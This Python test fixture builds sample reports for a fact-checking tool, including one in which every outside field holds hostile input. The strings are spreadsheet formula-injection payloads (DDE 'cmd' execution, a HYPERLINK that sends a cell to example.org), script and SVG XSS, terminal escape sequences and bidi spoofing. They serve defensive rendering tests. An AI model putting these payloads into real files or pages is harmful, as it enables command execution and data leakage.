"""Reports made by hand: small, complete, and hostile."""

from dataclasses import replace
from datetime import date

from checker.values.finding import Finding, Severity, Side, Step, Verdict
from checker.values.interval import Interval
from checker.values.report import (
    Acceptance,
    AcceptedSide,
    FactRow,
    FactValue,
    NotChecked,
    Report,
    RuleInfo,
    RunInfo,
    SourceInfo,
)
from checker.values.text import Span

RUN = RunInfo("0f1e2d3c", "minilm", "none", "default (3 rules)", "2024-03-05T12:00:00Z", 0.25)

PAGE = "https://example.org/kinds/quantity"

# What a spreadsheet computes where it stands at the beginning of a cell.
FORMULAS = {
    "equals": '=HYPERLINK("https://example.org/?x="&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spaces": " \t\r\n =1+1",
    "unseen": "\u200b\x00=1+1",
    "escape": "\x1b[31m=1+1",
    "wide": "＝1+1",
    "apostrophe": "'=1+1",
    "quotes": '"=1+1","=1+1"',
    "semicolon": 'so;=1+1;"=1+1";;""=1+1; =1+1;\'=1+1;-1+1',
    "tabs": "so\t=1+1\n=1+1",
}

# What an article, a path or a title can hold to harm whoever reads the report.
HOSTILE = {
    "csi": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H",
    "osc": "\x1b]8;;https://example.org\x07click\x1b]8;;\x07 \x1b]0;title\x1b\\",
    "c1": "\x9b31mred \x85 \x90dcs\x9c \x9d0;t\x07",
    "open": "\x1b]0;never ends, and the words after it must stay",
    "bell": "a\x07\x08\x00b\x7f",
    "bidi": "\u202egnp.exe\u202c \u2066left\u2069 \u200fmark",
    "hidden": "a\u200bb\u2060c\ufeffd\U000e0041e\u00adf",
    "lines": "one\r\ntwo\u2028three\n\n# four",
    "link": "[free](https://example.org) ![x](y) <https://example.org> www.example.org https://a.b me@a.b",
    "html": "<script>alert(1)</script> <img src=x onerror=y> &lt;b&gt; &amp; &#60;",
    "block": "# head > quote - item 1. one | cell | `code` *a* _b_ ~~c~~ $x$",
    "fence": "``` ~~~ ```",
    "surrogate": "\udcff\ud800",
    "word": "x" * 5000,
    "template": "{{ 7 * 7 }} {% raw %} {# c #} [bold]rich[/bold] :smile:",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f466 \U0001f3f4\U000e0067\U000e0062\U000e007f \u2764\ufe0f",
    "svg": '<svg onload="alert(1)"><style>*{display:none}</style></svg> ]]> --> </script>',
} | {f"formula {name}": text for name, text in FORMULAS.items()}


def side(source: str, text: str, value: str, *, start: int = 0, line: int = 1, **more: object) -> Side:
    """A side whose value stands in its text."""
    at = text.find(value)
    span = Span(start + at, start + at + len(value)) if value and at >= 0 else None
    return Side(source, f"{source}#{line}", start, start + len(text), line, text, value, span, **more)  # type: ignore[arg-type]


def source(name: str, claims: int = 2, **more: object) -> SourceInfo:
    """A source of which nothing more is known than what is given."""
    known = {"title": None, "published": None, "published_origin": None, "language": "en", "origin": name}
    known |= {"dropped": {}, "sha256": "ab" * 32} | more
    return SourceInfo(id=name, claims=claims, **known)  # type: ignore[arg-type]


def finding(a: Side, b: Side, verdict: Verdict = Verdict.CONFLICT, **more: object) -> Finding:
    """A finding of a rule for counts."""
    known: dict[str, object] = {"rule": "counts", "kind": "quantity", "severity": Severity.ERROR, "confidence": 0.9}
    known |= {"explanation": "They give different numbers.", "label": "passengers"} | more
    return Finding(verdict=verdict, a=a, b=b, **known)  # type: ignore[arg-type]


def ferry() -> Report:
    """Three sources, one fact with a conflict and an update, one fact that they share, something not checked."""
    first = side("morning.txt", "At least 120 passengers were on board, the operator said.", "At least 120", line=2)
    second = side("noon.txt", "Officials put the number of passengers at 95.", "95", start=40, line=3)
    third = side("evening.txt", "By nightfall the count stood at 131 passengers.", "131", as_of="2024-03-05")
    first = _attributed(first, "the operator", Interval.above(120, closed=True))
    steps = (Step("matched", "cosine 0.81"), Step("judged", "[120, inf) and [95, 95] have no number in common"))
    conflict = finding(first, second, explanation="At least 120 and 95 cannot both be right.", path=steps)
    update = finding(
        first, third, Verdict.UPDATE, confidence=0.7, severity=Severity.INFO, explanation="The later count is higher."
    )
    passengers = FactRow(
        "F1",
        "passengers",
        "quantity",
        Verdict.CONFLICT,
        (
            FactValue("morning.txt", first.claim, first.value, first.interval),
            FactValue("noon.txt", second.claim, "95", Interval.point(95)),
            FactValue("evening.txt", third.claim, "131", Interval.point(131)),
        ),
    )
    lifeboats = FactRow(
        "F2",
        "lifeboats",
        "quantity",
        Verdict.COMPATIBLE,
        (
            FactValue("morning.txt", "morning.txt#4", "six", Interval.point(6)),
            FactValue("noon.txt", "noon.txt#2", "half a dozen", Interval(5.5, 6.5)),
        ),
    )
    sources = (
        source(
            "morning.txt", 5, title="Ferry runs aground", published=date(2024, 3, 4), published_origin="line",
            dropped={"question": 1, "byline": 2},
        ),
        source("noon.txt", 1),
        source("evening.txt", 1200, language="fr", origin="noon.txt", sha256=""),
    )  # fmt: skip
    return Report(
        RUN,
        sources,
        (passengers, lifeboats),
        (conflict, update),
        (NotChecked("evening.txt", "words", "its language is French; numbers and dates were compared"),),
        {conflict.key: "F1", update.key: "F1"},
        {Verdict.CONFLICT: 1, Verdict.UPDATE: 1, Verdict.COMPATIBLE: 3},
        compared=5,
        hidden=3,
        failing=1,
        failures=frozenset({conflict.key}),
        rules=(
            RuleInfo("dates", "period", Severity.WARNING, "Two days for one event."),
            RuleInfo("counts", "quantity", Severity.ERROR, "Two counts of one thing.", "A reader must know.", PAGE),
        ),
    )


def known() -> Report:
    """The ferry a day later: the conflict is accepted, the update counts again, one entry finds nothing any more."""
    report = ferry()
    conflict, update = report.findings
    other = finding(conflict.b, side("evening.txt", "By nightfall the count stood at 131 passengers.", "131"))
    reason = "the operator has corrected its list"
    return replace(
        report,
        findings=(conflict, update, other),
        facts=(*report.facts, replace(report.facts[0], id="F3", label="passengers on board")),
        fact_of={conflict.key: "F3", update.key: "F1", other.key: "F1"},
        accepted={conflict.key: Acceptance(conflict.fingerprint, reason, date(2024, 3, 5))},
        accepted_count=1,
        expired={
            update.key: Acceptance(
                update.fingerprint, "the count goes on", date(2024, 3, 5), date(2024, 3, 6)
            )
        },
        stale=(
            Acceptance("00000000000000aa", "by hand", date(2024, 3, 5)),
            Acceptance(
                "00000000000000bb", "a slip", date(2024, 3, 5), None, "counts",
                AcceptedSide("morning.txt", "six", "Six crew."), AcceptedSide("noon.txt", "", "Nine crew."),
            ),
        ),
        ignored=2,
    )  # fmt: skip


def silent() -> Report:
    """Two sources that do not disagree, and a stage that failed."""
    missing = NotChecked(None, "entailment", "the model could not be loaded", degraded=True)
    return Report(RUN, (source("a.txt"), source("b.txt")), (), (), (missing,))


def hostile(text: str) -> Report:
    """One conflict in which everything that can come from outside is ``text``."""
    read = text.encode("utf-8", "replace").decode()  # the text of an article was decoded, unlike the name of a file
    a = side(text, f"{read} 12 {read}", f"12 {read}")
    b = side("b.txt", f"In all 14 {read}", "14", attribution=text, as_of=text)
    one = finding(a, b, explanation=text, label=text, path=(Step(text, text),))
    row = FactRow("F1", text, "quantity", Verdict.CONFLICT, (FactValue(text, f"{text}#1", text, None),))
    other = FactRow("F2", text, "quantity", Verdict.COMPATIBLE, (FactValue(text, f"{text}#1", text, None),) * 2)
    sources = (source(text, title=text, dropped={text: 1}, published_origin=text, published=date(2024, 1, 1)),)
    said = AcceptedSide(text, text, text)
    known = Acceptance("00000000000000aa", text, date(2024, 1, 1), None, text, said, said)
    return Report(
        RUN,
        sources,
        (row, other),
        (one,),
        (NotChecked(text, text, text),),
        {one.key: "F1"},
        accepted={one.key: known},
        stale=(known,),
        baseline=text,
    )


def _attributed(plain: Side, speaker: str, interval: Interval) -> Side:
    return replace(plain, attribution=speaker, interval=interval)
